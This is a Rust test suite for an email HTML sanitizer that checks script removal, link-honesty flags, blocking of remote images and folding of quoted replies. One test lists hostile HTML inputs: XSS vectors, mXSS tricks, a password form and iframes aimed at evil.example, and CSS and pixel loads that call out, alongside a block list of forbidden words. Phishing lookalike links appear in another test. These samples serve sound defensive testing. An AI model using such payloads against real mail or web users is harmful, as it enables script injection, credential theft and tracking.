//! HTML as mail programs write it, and as somebody would who means harm.

use super::*;
use std::collections::BTreeMap;

/// A mail with an HTML part, and a text part where `text` is one.
fn mail(subject: &str, text: Option<&str>, html: &str) -> String {
    let head = format!("From: a@example.net\r\nSubject: {subject}\r\nMIME-Version: 1.0\r\n");
    let part =
        |kind: &str, body: &str| format!("--limit\r\nContent-Type: text/{kind}; charset=utf-8\r\n\r\n{body}\r\n");
    let text = text.map(|text| part("plain", text)).unwrap_or_default();
    format!(
        "{head}Content-Type: multipart/alternative; boundary=limit\r\n\r\n{text}{}--limit--\r\n",
        part("html", html)
    )
}

fn drawn(html: &str, wish: &Wish) -> Sheet {
    sheet(mail("Visa", None, html).as_bytes(), wish).unwrap()
}

fn safe(html: &str) -> String {
    drawn(html, &Wish { whole: true, ..Wish::default() }).html
}

fn looked(subject: &str, text: Option<&str>, html: &str) -> Looks {
    let raw = mail(subject, text, html);
    let message = MessageParser::default().parse(raw.as_bytes()).unwrap();
    looks(&message, text.unwrap_or_default())
}

#[test]
fn nothing_that_runs_or_asks_the_network_is_left() {
    for harm in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
        "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<iframe src='https://evil.example'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/a.css'><style>@import url(https://evil.example/b.css)</style>",
        "<div style='background:url(https://evil.example/c.png)'>x</div>",
        "<div style='background:u\\72l(https://evil.example/c.png)'>x</div>",
        "<div style='background-image:image-set(\"https://evil.example/c.png\" 1x)'>x</div>",
        "<td background='https://evil.example/d.png'>x</td><body background='https://evil.example/e.png'>",
        "<img src='https://evil.example/f.png' srcset='https://evil.example/g.png 2x'>",
        "<img src='//evil.example/f.png'><img src='/desk/ask'><img src='mail-file:1'>",
        "<picture><source srcset='https://evil.example/h.png'><img src='https://evil.example/i.png'></picture>",
        "<video poster='https://evil.example/j.png' src='https://evil.example/k.mp4'></video><audio src='https://evil.example/l.mp3'></audio>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<p id=top class=desk data-testid=send>x</p>",
        "<div style='position:fixed;top:0;z-index:9'>over everything</div>",
        "<div style='margin-top:-900px;opacity:0'>over something</div>",
        "<!--[if mso]><img src='https://evil.example/m.png'><![endif]-->",
    ] {
        let html = safe(harm);
        let never = [
            "alert",
            "script",
            "evil.example",
            "onerror",
            "<iframe",
            "<form",
            "<input",
            "<style",
            "url(",
            "position",
            "z-index",
            "srcset",
            "<object",
            "<embed",
            "<meta",
            "<base",
            "<link",
            "svg",
            "id=",
            "class=",
            "data-testid",
            "opacity",
            "-900px",
            "/desk",
            "mail-file",
            "background=",
            "<!--",
        ];
        for word in never {
            assert!(!html.contains(word), "{word} is left of {harm}: {html}");
        }
    }
}

#[test]
fn it_looks_as_its_writer_meant_it() {
    let html = safe(
        "<html dir=rtl><body bgcolor='#eeeeee' style='color:#333'><table width=600 cellpadding=4 align=center><tr><td style='background:#fff; padding:8px' colspan=2>\
         <h1>Offer</h1><ul><li><b>One</b></ul></td></tr></table></body></html>",
    );
    for kept in [
        "dir=\"rtl\"",
        "background-color:#eeeeee",
        "color:",
        "width=\"600\"",
        "background:",
        "colspan=\"2\"",
        "<h1>",
        "<li><b>One</b></li>",
    ] {
        assert!(html.contains(kept), "{kept} is gone: {html}");
    }
}

#[test]
fn a_link_says_where_it_leads() {
    let at = |html: &str| safe(html);
    let honest = at("<a href='https://bank.example/a?b=1'>Your bank</a>");
    assert!(honest.contains("href=\"https://bank.example/a?b=1\"") && honest.contains("target=\"_blank\""), "{honest}");
    assert!(
        honest.contains("rel=\"noopener noreferrer nofollow\"")
            && honest.contains("title=\"https://bank.example/a?b=1\""),
        "{honest}"
    );
    for (text, leads) in [
        ("https://bank.example/login", "https://evil.example/x"),
        ("bank.com", "https://evil.example/x"),
        ("www.bank.example", "http://bank.example.evil.example/"),
        ("Log in at <b>bank.com/login</b> now", "https://evil.example"),
        ("bank.com", "https://xn--bnk-8na.com/"),
    ] {
        let html = at(&format!("<a href='{leads}'>{text}</a>"));
        assert!(html.contains("data-leads"), "{text} pretends to lead to {leads}: {html}");
    }
    for (text, leads) in [
        ("bank.com", "https://www.bank.com/login"),
        ("https://bank.example", "https://mail.bank.example/"),
        ("report.pdf", "https://files.example/1"),
        ("a.okafor@bank.com", "mailto:a.okafor@bank.com"),
        ("e.g. this", "https://files.example/1"),
    ] {
        let html = at(&format!("<a href='{leads}'>{text}</a>"));
        assert!(!html.contains("data-leads"), "{text} is honest: {html}");
    }
    assert!(
        !at("<span data-leads>(bank.com)</span>").contains("data-leads"),
        "a mail cannot mark its own text as ours"
    );
}

#[test]
fn pictures_come_from_the_mail_until_a_person_asks() {
    let html = "<img src='cid:logo@x' alt=Logo><img src='https://pictures.example/a.png' alt='A boat' width=300><img src='https://pictures.example/a.png'>\
                <img src='https://count.example/p.gif' width=1 height=1><img src='data:image/png;base64,iVBORw0KGgo='>";
    let raw = format!(
        "From: a@example.net\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=limit\r\n\r\n--limit\r\nContent-Type: text/html\r\n\r\n{html}\r\n\
         --limit\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--limit--\r\n"
    );
    let sheet = |wish| super::sheet(raw.as_bytes(), &wish).unwrap();
    let files = BTreeMap::from([(0, "mail-file:abc".to_owned())]);
    let shut = sheet(Wish { files: files.clone(), ..Wish::default() });
    assert_eq!(shut.pictures, ["https://pictures.example/a.png"], "one that only counts is not even offered");
    assert!(shut.html.contains("src=\"mail-file:abc\"") && shut.html.contains("alt=\"A boat\""), "{}", shut.html);
    assert!(
        shut.html.contains("data:image/png;base64,iVBORw0KGgo=") && !shut.html.contains("example/"),
        "{}",
        shut.html
    );
    let pictures =
        BTreeMap::from([("https://pictures.example/a.png".to_owned(), "data:image/gif;base64,R0lG".to_owned())]);
    let open = sheet(Wish { files, pictures, ..Wish::default() });
    assert_eq!(open.html.matches("data:image/gif;base64,R0lG").count(), 2, "{}", open.html);
    let message = MessageParser::default().parse(raw.as_bytes()).unwrap();
    let looks = looks(&message, "");
    assert_eq!((looks.inside.as_slice(), looks.laid_out), (&[0][..], true));
}

#[test]
fn earlier_mails_and_signatures_are_folded_and_can_be_had() {
    for (name, html) in [
        (
            "Gmail",
            "<div dir=ltr>Yes.</div><br><div class=gmail_quote><div class=gmail_attr>On Tue, Nov 3, 2026 Allen wrote:<br></div><blockquote class=gmail_quote>OLD</blockquote></div>",
        ),
        (
            "Apple Mail",
            "<div>Yes.</div><div><br><blockquote type=cite><div>On 3 Nov 2026, at 10:02, Allen wrote:</div><div>OLD</div></blockquote></div><br>",
        ),
        (
            "Thunderbird",
            "<p>Yes.</p><div class=moz-cite-prefix>On 11/3/26 10:02, Allen wrote:<br></div><blockquote type=cite>OLD</blockquote>",
        ),
        (
            "Outlook",
            "<div class=WordSection1><p>Yes.</p><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in'><p><b>From:</b> Allen<br><b>Sent:</b> Tuesday, November 3, 2026<br><b>To:</b> Amara<br><b>Subject:</b> Visa</p></div><p>OLD</p></div>",
        ),
        (
            "Outlook, German",
            "<p>Ja: Yes.</p><div style='border:none;border-top:solid #B5C4DF 1.0pt'><p><b>Von:</b> Allen<br><b>Gesendet:</b> Dienstag<br><b>An:</b> Amara<br><b>Betreff:</b> Visum</p></div><p>OLD</p>",
        ),
        (
            "Outlook on the web",
            "<div>Yes.</div><div id=appendonsend></div><hr tabindex=-1><div id=divRplyFwdMsg><b>From:</b> Allen<br><b>Sent:</b> Tuesday<br><b>To:</b> Amara<br><b>Subject:</b> Visa</div><div>OLD</div>",
        ),
        ("Yahoo", "<div>Yes.</div><div class=yahoo_quoted><div>On Tuesday, Allen wrote:</div><div>OLD</div></div>"),
        (
            "Proton",
            "<div>Yes.</div><div class=protonmail_quote>On Tuesday, Allen wrote:<blockquote type=cite>OLD</blockquote></div>",
        ),
        ("GMX", "<div>Yes.</div><div name=quote style='margin:10px 5px'><b>Gesendet:</b> Dienstag OLD</div>"),
        (
            "any other, French",
            "<p>Yes.</p><p>Le mar. 3 nov. 2026 à 10:02, Allen a écrit :</p><blockquote type=cite>OLD</blockquote>",
        ),
        ("a signature", "<div>Yes.</div><div class=gmail_signature>OLD</div>"),
        ("Outlook's signature", "<div>Yes.</div><div id=Signature>OLD<img src='cid:1'></div>"),
    ] {
        let folded = drawn(html, &Wish::default());
        assert!(
            folded.has_rest
                && folded.html.contains("Yes.")
                && !folded.html.contains("OLD")
                && !folded.html.contains("Allen"),
            "{name}: {}",
            folded.html
        );
        let whole = drawn(html, &Wish { whole: true, ..Wish::default() });
        assert!(whole.has_rest && whole.html.contains("Yes.") && whole.html.contains("OLD"), "{name}: {}", whole.html);
    }
}

#[test]
fn what_is_the_mail_itself_is_not_folded() {
    for (subject, html) in [
        ("Visa", "<blockquote type=cite>OLD</blockquote><p>An answer below</p>"),
        (
            "Visa",
            "<p>See</p><blockquote type=cite>OLD</blockquote><p>between</p><blockquote type=cite>OLD</blockquote>",
        ),
        ("Visa", "<div class=gmail_quote>OLD</div>"),
        ("Fwd: Visa", "<p>See below</p><div class=gmail_quote>---------- Forwarded message ---------<br>OLD</div>"),
        ("Visa", "<p>See below</p><div class=gmail_quote>---------- Forwarded message ---------<br>OLD</div>"),
        (
            "FW: Visa",
            "<p>See</p><div style='border-top:solid #E1E1E1 1.0pt'><p><b>From:</b> S<br><b>Sent:</b> T<br><b>To:</b> A<br><b>Subject:</b> V</p></div><p>OLD</p>",
        ),
        ("Visa", "<div style='border-top:1px solid red'>A line across</div><p>OLD</p>"),
        ("Visa", "<div class=gmail_signature>OLD</div>"),
    ] {
        let sheet = sheet(mail(subject, None, html).as_bytes(), &Wish::default()).unwrap();
        assert!(!sheet.has_rest && sheet.html.contains("OLD"), "{html}: {}", sheet.html);
    }
}

#[test]
fn a_mail_that_says_no_more_than_its_text_is_a_bubble() {
    for (name, text, html) in [
        ("Gmail", "Thanks!", "<div dir=\"ltr\">Thanks!</div>"),
        (
            "Gmail, with history",
            "Thanks!\n\nOn Tue, Nov 3, 2026 Allen wrote:\n> x",
            "<div dir=\"ltr\">Thanks!</div><div class=gmail_quote><table><tr><td>x</table></div>",
        ),
        (
            "Outlook",
            "Thanks!",
            "<html xmlns:o='urn'><head><style>p{color:red}</style></head><body lang=EN style='word-wrap:break-word'><div class=WordSection1><p class=MsoNormal><span style='font-size:11.0pt;color:#1F497D'>Thanks!<o:p></o:p></span></p></div></body></html>",
        ),
        (
            "Apple Mail",
            "Thanks!",
            "<html><body style='overflow-wrap: break-word; -webkit-nbsp-mode: space; background-color: rgb(255, 255, 255);'>Thanks!<br></body></html>",
        ),
        ("a list", "Papers:\n* passport\n* grades", "<p>Papers:</p><ul><li>passport</li><li>grades</li></ul>"),
        (
            "a link that the text tells",
            "See https://a.example/1",
            "<p>See <a href='https://a.example/1'>https://a.example/1</a></p>",
        ),
        ("a picture that counts", "Hello", "<p>Hello</p><img src='https://count.example/1' width=1 height=1>"),
        (
            "a signature with a logo",
            "Thanks!\n\n-- \nAllen",
            "<p>Thanks!</p><div class=gmail_signature><img src='cid:1'><table><tr><td>Allen</table></div>",
        ),
    ] {
        let looks = looked("Visa", Some(text), html);
        assert!(!looks.laid_out && looks.text.is_none(), "{name}: {looks:?}");
    }
    for (name, text, html) in [
        ("a table", Some("One 1"), "<table><tr><td>One<td>1</table>"),
        ("a picture", Some("See"), "<p>See</p><img src='cid:1'>"),
        ("a coloured ground", Some("Offer"), "<div style='background:#fdf2c0'>Offer</div>"),
        ("a heading", Some("Offer"), "<h1>Offer</h1>"),
        ("a link that the text does not tell", Some("See here"), "<p>See <a href='https://a.example/1'>here</a></p>"),
        ("bold words without a text", None, "<p>See <b>here</b></p>"),
    ] {
        assert!(looked("Visa", text, html).laid_out, "{name}");
    }
}

#[test]
fn a_text_that_says_nothing_is_not_the_text() {
    let looks = looked(
        "Visa",
        Some("Your mail program shows no HTML."),
        "<h1>Offer</h1><p>A place in Lisboa</p><p>for you</p>",
    );
    assert_eq!(
        looks.text.as_deref().map(|text| text.split_whitespace().collect::<Vec<_>>().join(" ")).as_deref(),
        Some("Offer A place in Lisboa for you")
    );
    let lines = looked("Visa", None, "<div>Good morning,</div><div><br></div><div>which papers?</div>").text.unwrap();
    assert!(lines.starts_with("Good morning,\n") && lines.ends_with("which papers?"), "{lines:?}");
}

#[test]
fn html_that_would_keep_the_reader_busy_is_not_read() {
    let (deep, wide, long) =
        ("<div>".repeat(13_000), format!("<p {}>", "a ".repeat(13_000)), "x".repeat(MAIL_HTML_BYTES_MAX + 1));
    for html in [deep, wide, long] {
        assert_eq!(sheet(mail("Visa", Some("Hello"), &html).as_bytes(), &Wish::default()), None);
        assert_eq!(looked("Visa", Some("Hello"), &html), Looks::default());
    }
}
